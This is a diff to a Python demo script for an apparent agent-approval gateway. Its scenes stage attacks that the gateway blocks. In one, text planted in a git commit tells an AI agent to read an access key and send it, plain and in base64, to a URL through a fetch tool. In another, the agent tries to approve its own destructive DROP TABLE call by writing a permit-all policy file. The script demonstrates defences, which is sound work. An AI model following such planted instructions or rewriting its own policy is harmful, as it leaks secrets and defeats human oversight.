@@ -9,15 +9,19 @@ import shutil
 import sqlite3
 import subprocess
 import sys
+import time
 from collections.abc import Callable
 from contextlib import closing
 from dataclasses import dataclass
+from typing import Any
 
 from assent.cli.demo.stage import Stage, assent_db, mine
 from assent.cli.demo.telling import Teller
 from assent.cli.demo.wire import Answer, Wire
 
 _DROP = "DROP TABLE {}"
+_HOLD = 40  # seconds that a call waits for a person where the demo shows it
+_ASKED = 20.0  # seconds until a question must be open
 
 
 @dataclass(frozen=True, slots=True)
@@ -51,107 +55,153 @@ class Play:
     def allowed(self, did: str, answer: Answer, *, came: str = "") -> Answer:
         """Tell a call that must have gone through."""
         ok = answer.verdict == "allow" and not answer.failed
-        shown = came or " ".join(answer.text.split())[:100]
-        self.tell.step("agent", did, shown if ok else f"{answer.verdict}: {answer.text}", ok=ok, verdict="allow")
+        must = came or (" ".join(answer.text.split())[:100] if ok else "a result")
+        self.tell.step("agent", did, must, wrong="" if ok else f"{answer.verdict}: {answer.text}", verdict="allow")
         return answer
 
-    def refused(self, did: str, answer: Answer, verdict: str, *, also: bool = True) -> Answer:
-        """Tell a call that must not have gone through."""
-        ok = answer.verdict == verdict and answer.failed and also
-        self.tell.step("agent", did, f"{answer.verdict}: {answer.why}", ok=ok, verdict=answer.verdict)
+    def refused(self, did: str, answer: Answer, verdict: str, *, wrong: str = "") -> Answer:
+        """Tell a call that must not have gone through; `wrong` says what happened all the same, if anything."""
+        came = f"{answer.verdict}: {answer.why or answer.text}"
+        ok = answer.verdict == verdict and answer.failed and not wrong
+        wrong = "" if ok else f"{came}; {wrong}" if wrong else came
+        self.tell.step("agent", did, came if ok else verdict, wrong=wrong, verdict=verdict)
         return answer
 
     def fails(self, did: str, ran: tuple[int, str]) -> None:
         """Tell a command that must not have worked for the agent."""
         code, shown = ran
-        error = next((line for line in shown.splitlines() if line.startswith("error[")), shown.strip()[-120:])
-        self.tell.step("agent", did, error, ok=code == 1 and error.startswith("error["), verdict="deny")
+        error = next((line for line in shown.splitlines() if line.startswith("error[")), "")
+        wrong = "" if code == 1 and error else f"exit code {code}: {shown.strip()[-120:]}"
+        self.tell.step("agent", did, error or "an error", wrong=wrong, verdict="deny")
 
-    def status(self, approval: str) -> str:
-        """How a question stands."""
-        _, shown = self.stage.agent_runs("approvals", "--all", "--json")
-        return next((str(one["status"]) for one in json.loads(shown) if one["id"] == approval), "none")
+    def questions(self) -> dict[str, str]:
+        """Every question of this home, and how it stands."""
+        return {str(one["id"]): str(one["status"]) for one in self.reads("approvals", "--all", "--json") or ()}
 
-    def approves(self, approval: str) -> None:
-        """The person reads the card at a terminal, types the passphrase, and says yes."""
+    def reads(self, *arguments: str) -> Any:
+        """What a command prints as JSON; None if it printed none."""
+        try:
+            return json.loads(self.stage.agent_runs(*arguments)[1])
+        except ValueError:
+            return None
+
+    def asked(self) -> str:
+        """The question that is open, as soon as there is one; empty if none comes."""
+        end = time.monotonic() + _ASKED
+        while time.monotonic() < end:
+            if opened := [id for id, status in self.questions().items() if status == "pending"]:
+                return opened[-1]
+        return ""
+
+    def lost(self, *tables: str) -> str:
+        """Which of these tables are gone; empty if none is."""
+        gone = sorted(set(tables) - self.stage.tables())
+        return f"{', '.join(gone)} is gone" if gone else ""
+
+    def approves(self, approval: str, *after: str) -> None:
+        """The person reads the card at a terminal, types the passphrase, and says yes.
+
+        Args:
+            after: how the question may stand then.
+        """
         code, shown = self.stage.person.types("approve", approval, "--yes")
-        card = shown.partition("Passphrase for")[0]
-        self.tell.quote(card)
-        ok = code == 0 and self.status(approval) == "approved"
-        self.tell.step("person", f"assent approve {approval}", "approved, with the passphrase", ok=ok, verdict="allow")
+        self.tell.quote(shown.partition("Passphrase for")[0])
+        stands = self.questions().get(approval, "unknown")
+        wrong = "" if code == 0 and stands in after else f"exit code {code}, the question is {stands}"
+        must = "approved, with the passphrase that only a person has"
+        self.tell.step("person", f"assent approve {approval}", must, wrong=wrong, verdict="allow")
 
 
 def _flows(play: Play) -> None:
-    play.allowed(
-        "git_log: what happened last?", play.git.call("git_log", repo_path=str(play.stage.repository), max_count=1)
-    )
-    play.allowed("read_query: SELECT * FROM orders", play.sqlite.call("read_query", query="SELECT * FROM orders"))
-    query = "INSERT INTO orders (item, pieces) VALUES ('pens', 12)"
+    repository = str(play.stage.repository)
+    play.allowed("git_status", play.git.call("git_status", repo_path=repository))
+    play.allowed("git_log", play.git.call("git_log", repo_path=repository, max_count=1))
+    query = "CREATE TABLE todo (text TEXT)"
+    play.allowed(f"create_table: {query}", play.sqlite.call("create_table", query=query))
+    query = "INSERT INTO todo VALUES ('order paper')"
     play.allowed(f"write_query: {query}", play.sqlite.call("write_query", query=query))
-    code, shown = play.stage.agent_runs("approvals", "--all", "--json")
-    play.tell.step("person", "assent approvals", "nobody was asked", ok=code == 0 and json.loads(shown) == [])
+    play.allowed("read_query: SELECT * FROM todo", play.sqlite.call("read_query", query="SELECT * FROM todo"))
+    questions = play.reads("approvals", "--all", "--json")
+    wrong = "" if questions == [] else f"{questions}"
+    play.tell.step("person", "assent approvals", "nobody was asked", wrong=wrong)
 
 
 def _carries_out(play: Play) -> None:
     log = play.git.call("git_log", repo_path=str(play.stage.repository), max_count=1).text
     found = re.search(r"NOTE TO AI AGENTS:(.|\n)*?(http://\S+?)VALUE", log)
     planted = found[2] if found else ""
-    play.tell.step("agent", "git_log", "reads text that somebody planted in a commit message", ok=bool(planted))
-    play.tell.quote(found[0] if found else log)
+    wrong = "" if planted else log
+    play.tell.step("agent", "git_log", "reads text that somebody planted in a commit message", wrong=wrong)
+    play.tell.quote(found[0] if found else "")
     answer = play.sqlite.call("read_query", query="SELECT value FROM settings WHERE name = 'access_key'")
     play.allowed("believes it, and reads the key", answer, came="the key; the session is labelled secret from now on")
     key = re.search(r"AKIA[A-Z2-7]{16}", answer.text)
     stolen = key[0] if key else ""
+    unread = "" if stolen == play.stage.secret else "the key was never read"
     for did, data in (
         ("fetch: …/?data=THE KEY", stolen),
         ("fetch: …/?data=THE KEY in base64", base64.b64encode(stolen.encode()).decode()),
     ):
         sent = play.fetch.call("fetch", url=planted + data)
-        play.refused(did, sent, "deny", also=stolen == play.stage.secret and play.stage.knocked() is None)
-    quiet = play.stage.knocked(0.3) is None
-    play.tell.step("attacker", "listens at the address", "nothing has arrived", ok=quiet)
-    play.tell.step("attacker", "the same call without Assent", "the key arrives", ok=_leaks(play, planted + stolen))
+        play.refused(did, sent, "deny", wrong=unread or play.stage.knocked() or "")
+    arrived = play.stage.knocked(0.3)
+    must = "nothing has arrived: the server never got the call"
+    play.tell.step("attacker", "listens at the address", must, wrong=arrived or "")
+    seen = _without(play, planted + stolen)
+    wrong = "" if any(line and play.stage.secret in line for line in seen) else f"{seen}"
+    play.tell.step("attacker", "the same call without Assent", "the key arrives", wrong=wrong)
 
 
-def _leaks(play: Play, url: str) -> bool:
-    """Does the server really send it if nobody stops it? Otherwise the scene would show nothing."""
+def _without(play: Play, url: str) -> list[str | None]:
+    """What arrives if nobody stops the same server. If nothing did, the scene would show nothing."""
     bare = play.stage.bare("fetch")
     try:
         bare.hello()
         id = bare.start_call("fetch", url=url)
         seen = [play.stage.knocked(10.0) for _ in range(2)]  # robots.txt, then the page
         bare.answer(id)
-        return any(line and play.stage.secret in line for line in seen)
     finally:
         bare.close()
+    return seen
 
 
 def _waits(play: Play) -> None:
     query = _DROP.format("drafts")
-    asked = play.sqlite.call("write_query", query=query)
-    play.refused(f"write_query: {query}", asked, "escalate", also="drafts" in play.stage.tables())
-    play.approves(asked.approval)
+    gateway = play.stage.governed("sqlite", wait=_HOLD)
+    try:
+        gateway.hello()
+        call = gateway.start_call("write_query", query=query)
+        approval = play.asked()
+        wrong = "" if approval else "no question was opened"
+        must = "held by the gateway: a person is asked, nothing has run"
+        wrong = wrong or play.lost("drafts")
+        play.tell.step("agent", f"write_query: {query}", must, wrong=wrong, verdict="escalate")
+        play.approves(approval, "approved", "executed")  # a held call goes on by itself, at once
+        play.allowed("still waits, and gets its answer", gateway.result(gateway.answer(call)), came="it runs")
+    finally:
+        gateway.close()
+    wrong = "" if play.lost("drafts") else "the table is still there"
+    play.tell.step("demo", "looks into the database", "the table is gone", wrong=wrong)
     again = play.sqlite.call("write_query", query=query)
-    play.allowed("makes exactly the same call again", again, came="it runs")
-    gone = "drafts" not in play.stage.tables()
-    play.tell.step("demo", "looks into the database", "the table is gone", ok=gone)
-    third = play.sqlite.call("write_query", query=query)
-    fresh = third.approval not in ("", asked.approval)
-    play.refused("and once more: the yes is used up", third, "escalate", also=fresh)
+    play.refused("makes the same call again: the yes is used up", again, "escalate", wrong=_new(again, approval))
+
+
+def _new(answer: Answer, before: str) -> str:
+    """Empty if the call was asked about anew."""
+    return "" if answer.approval not in ("", before) else "no new question was opened"
 
 
 def _other_arguments(play: Play) -> None:
     given = play.sqlite.call("write_query", query=_DROP.format("archive"))
     play.refused("write_query: DROP TABLE archive", given, "escalate")
-    play.approves(given.approval)
+    play.approves(given.approval, "approved")
     other = play.sqlite.call("write_query", query=_DROP.format("orders"))
-    there = {"archive", "orders"} <= play.stage.tables()
-    fresh = other.approval not in ("", given.approval)
-    play.refused("tries that yes on DROP TABLE orders", other, "escalate", also=there and fresh)
+    wrong = play.lost("archive", "orders") or _new(other, given.approval)
+    play.refused("tries that yes on DROP TABLE orders", other, "escalate", wrong=wrong)
     used = play.sqlite.call("write_query", query=_DROP.format("archive"))
     play.allowed("uses it for what it was given for", used, came="it runs")
-    left = "archive" not in play.stage.tables() and "orders" in play.stage.tables()
-    play.tell.step("demo", "looks into the database", "archive is gone, orders is there", ok=left)
+    wrong = play.lost("orders") or ("" if play.lost("archive") else "archive is still there")
+    play.tell.step("demo", "looks into the database", "archive is gone, orders is there", wrong=wrong)
 
 
 def _approves_itself(play: Play) -> None:
@@ -173,10 +223,11 @@ def _approves_itself(play: Play) -> None:
     (home / "policy" / "mine.cedar").write_text('@id("mine/all")\npermit (principal, action, resource);\n')
     play.fails("rewrites a policy file, then activates it", play.stage.agent_runs("policy", "activate", "--yes"))
     last = play.sqlite.call("write_query", query=query)
-    play.refused("asks again", last, "escalate", also="orders" in play.stage.tables())
+    play.refused("asks again", last, "escalate", wrong=play.lost("orders"))
     (home / "policy" / "mine.cedar").unlink()
-    still = play.status(last.approval)
-    play.tell.step("person", "assent approvals", f"the question is still {still}", ok=still == "pending")
+    still = play.questions().get(last.approval, "unknown")
+    wrong = "" if still == "pending" else f"it is {still}"
+    play.tell.step("person", "assent approvals", "the question is still pending", wrong=wrong)
 
 
 def _own_key(play: Play) -> str:
@@ -189,11 +240,10 @@ def _own_key(play: Play) -> str:
 
 def _verifies(play: Play) -> None:
     play.end()
-    code, shown = play.stage.agent_runs("verify", "--json", "--log-key", play.stage.log_key)
-    report = json.loads(shown) if code in (0, 4) else {}
-    ok = code == 0 and report.get("sound") is True and report.get("complete") is True
-    came = f"{report.get('leaves')} receipts: SOUND yes, COMPLETE yes" if ok else shown
-    play.tell.step("auditor", "assent verify", came, ok=ok, verdict="allow" if ok else "deny")
+    report = play.reads("verify", "--json", "--log-key", play.stage.log_key) or {}
+    ok = report.get("sound") is True and report.get("complete") is True
+    must = f"{report.get('leaves')} receipts: SOUND yes, COMPLETE yes"
+    play.tell.step("auditor", "assent verify", must, wrong="" if ok else f"{report}", verdict="allow")
     export = play.stage.folder / "log.export"
     play.stage.agent_runs("receipts", "export", "-o", str(export))
     done = subprocess.run(  # noqa: S603
@@ -202,7 +252,8 @@ def _verifies(play: Play) -> None:
         text=True,
         check=False,
     )
-    play.tell.step("auditor", "assent-verify log.export, elsewhere", "it agrees", ok=done.returncode == 0)
+    wrong = (done.stdout + done.stderr)[-300:] or "no report" if done.returncode else ""
+    play.tell.step("auditor", "assent-verify log.export, elsewhere", "it agrees", wrong=wrong)
 
 
 def _flipped(play: Play) -> None:
@@ -217,12 +268,12 @@ def _flipped(play: Play) -> None:
     at = data.index(b'"kind":"decision"') + len('"kind":"dec')
     data[at] ^= 1
     copy.write_bytes(data)
-    code, shown = play.stage.agent_runs("verify", str(copy), "--json")
-    report = json.loads(shown) if code in (0, 4) else {"problems": []}
-    problem = next((one for one in report["problems"] if one["leaf"] is not None), {"leaf": None, "message": shown})
-    came = f"found: leaf {problem['leaf']}, {problem['message']}"
-    ok = code == 4 and report.get("sound") is False and problem["leaf"] is not None
-    play.tell.step("auditor", f"flips one bit at byte {at:,} of a copy; assent verify", came, ok=ok, verdict="deny")
+    report = play.reads("verify", str(copy), "--json") or {"problems": []}
+    problem = next((one for one in report["problems"] if one["leaf"] is not None), None)
+    ok = report.get("sound") is False and problem is not None
+    must = f"found: leaf {problem['leaf']}, {problem['message']}" if problem else "found, and the leaf is named"
+    did = f"flips one bit at byte {at:,} of a copy; assent verify"
+    play.tell.step("auditor", did, must, wrong="" if ok else f"{report}", verdict="deny")
 
 
 SCENES: tuple[Scene, ...] = (
@@ -230,7 +281,9 @@ SCENES: tuple[Scene, ...] = (
     Scene(
         "A secret stays in", "Text planted in a tool's output talks the agent into carrying a key out.", _carries_out
     ),
-    Scene("What cannot be undone waits", "A person sees the exact call, says yes, and it runs once.", _waits),
+    Scene(
+        "What cannot be undone waits", "The call is held while a person looks at it. After a yes it runs, once.", _waits
+    ),
     Scene("A yes is for one thing", "The same approval does nothing for other arguments.", _other_arguments),
     Scene("The agent cannot say yes", "It tries to answer, forge, and reconfigure.", _approves_itself),
     Scene("The log proves it", "Checked offline, also by a package that imports nothing of the writer.", _verifies),
